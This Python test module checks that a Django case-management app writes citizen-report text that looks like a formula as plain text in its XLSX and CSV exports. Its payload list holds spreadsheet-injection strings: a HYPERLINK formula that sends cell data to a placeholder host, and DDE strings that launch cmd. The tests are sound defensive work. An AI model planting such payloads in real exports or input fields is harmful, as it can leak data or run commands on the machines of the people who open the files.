"""Finding 4: a report whose description starts with ``=HYPERLINK(…)`` or ``=cmd|' /C calc'!A0`` was
written as a live formula into the case-list export and the single-case export."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.test import TestCase
from openpyxl import Workbook, load_workbook

from tests.authorization.world import POINT_WEST, World
from tests.security.conftest import client_for
from zhili.accounts.roles import Role
from zhili.cases.models import CaseChannel
from zhili.cases.services.intake import IntakeRequest, case_intake
from zhili.core.spreadsheets import csv_row, xlsx_bytes, xlsx_row

pytestmark = pytest.mark.django_db

PAYLOADS = ('=HYPERLINK("http://x/?d="&B2,"点击")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1")


def _formulas_in(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [name for name in archive.namelist()
                if name.startswith("xl/worksheets/") and "<f>" in archive.read(name).decode("utf-8")]


def _report(world: World, text: str) -> str:
    return case_intake(request=IntakeRequest(
        channel=CaseChannel.CITIZEN_APP, description=text, title=text[:60], longitude=POINT_WEST[0],
        latitude=POINT_WEST[1], matter_code="M001"), actor=None).case.number


@pytest.mark.parametrize("file_format", ["xlsx"])
def test_the_single_case_export_writes_formulas_as_text(world: World, file_format: str) -> None:
    number = _report(world, PAYLOADS[0])
    response = client_for(world, Role.DISPATCHER).get(f"/cases/{number}/export.{file_format}")
    assert response.status_code == 200
    assert _formulas_in(response.content) == []
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = {row[0].value: row[1] for row in sheet.iter_rows(min_row=1, max_col=2)}
    assert values["诉求内容"].value == PAYLOADS[0]
    assert values["诉求内容"].data_type == "s"
    assert values["诉求内容"].quotePrefix is True


def test_the_case_list_export_writes_formulas_as_text(world: World) -> None:
    for payload in PAYLOADS[:2]:
        _report(world, payload)
    client = client_for(world, Role.DISPATCHER)
    with TestCase.captureOnCommitCallbacks(execute=True):  # the export job is queued after commit
        started = client.get("/cases/export.xlsx")
    assert started.status_code == 302
    job_id = started["Location"].rstrip("/").split("/")[-1]
    download = client.get(f"/cases/exports/{job_id}/file/")
    assert download.status_code == 200
    content = b"".join(download.streaming_content)  # type: ignore[attr-defined]
    assert _formulas_in(content) == []
    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
    column = rows[0].index("诉求内容")
    descriptions = {row[column] for row in rows[1:]}
    assert set(PAYLOADS[:2]) <= descriptions


@pytest.mark.parametrize("write_only", [True, False])
def test_every_formula_trigger_is_written_as_text(write_only: bool) -> None:
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("s") if write_only else workbook.active
    sheet.append(xlsx_row(sheet, [*PAYLOADS, 42, "普通文字"]))
    content = io.BytesIO()
    workbook.save(content)
    assert _formulas_in(content.getvalue()) == []
    row = next(load_workbook(content).worksheets[0].iter_rows(values_only=True))
    assert list(row) == [*PAYLOADS, 42, "普通文字"]


def test_a_normal_workbook_saved_through_the_one_writer_holds_no_formula() -> None:
    workbook = Workbook()
    workbook.active.append(list(PAYLOADS))
    content = xlsx_bytes(workbook)
    assert _formulas_in(content) == []
    assert list(next(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))) == list(PAYLOADS)


def test_csv_fields_that_look_like_formulas_get_an_apostrophe() -> None:
    assert csv_row(["=1+1", "+86 138", "-", "@x", "正常", 5]) == ["'=1+1", "'+86 138", "'-", "'@x", "正常", 5]
